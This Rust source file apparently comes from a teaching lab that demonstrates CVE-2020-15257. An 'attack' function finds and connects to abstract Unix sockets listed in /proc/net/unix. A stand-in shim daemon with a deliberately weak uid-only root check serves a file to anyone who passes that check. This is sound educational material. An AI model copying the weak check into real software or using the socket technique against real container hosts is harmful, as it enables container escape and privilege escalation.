//! CVE-2020-15257: a daemon of the engine's behind a name that is no file.

use std::fs;
use std::io::{Read, Write};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener, UnixStream};

use nix::sys::socket::{getsockopt, sockopt::PeerCredentials};

use crate::told;

// ANCHOR: attack
/// An abstract socket has a name that begins with a zero byte and lies in no file system: no mount hides it, no mode
/// closes it. Its names belong to the network namespace: who has the host's finds the host's, and `/proc/net/unix`
/// lists them.
pub fn ask(words: &[String]) -> Result<String, String> {
    let name = words.first().ok_or("NAME is needed")?;
    let table = fs::read_to_string("/proc/net/unix").unwrap_or_default();
    let listed = table.lines().any(|line| line.ends_with(&format!("@{name}")));
    let address = told("name", SocketAddr::from_abstract_name(name))?;
    let mut daemon = told(&format!("connect @{name}"), UnixStream::connect_addr(&address))?;
    let mut answer = String::new();
    told("ask", daemon.read_to_string(&mut answer))?;
    Ok(format!("@{name}{} answers: {}", if listed { ", listed," } else { "" }, answer.trim()))
}
// ANCHOR_END: attack

/// A stand-in for containerd's shim: does what root asks for, and knows root by the uid alone.
pub fn serve(words: &[String]) -> Result<String, String> {
    let [name, file] = words else { return Err("NAME FILE are needed".into()) };
    let address = told("name", SocketAddr::from_abstract_name(name))?;
    let listener = told("bind", UnixListener::bind_addr(&address))?;
    println!("ready");
    for client in listener.incoming() {
        let mut client = told("accept", client)?;
        let who = told("ask who it is", getsockopt(&client, PeerCredentials))?;
        let answer = if who.uid() == 0 { fs::read_to_string(file) } else { Ok("you are not root".into()) };
        // Whoever asked and went away has no use for the answer.
        let _ = client.write_all(told(file, answer)?.as_bytes());
    }
    Ok(String::new())
}
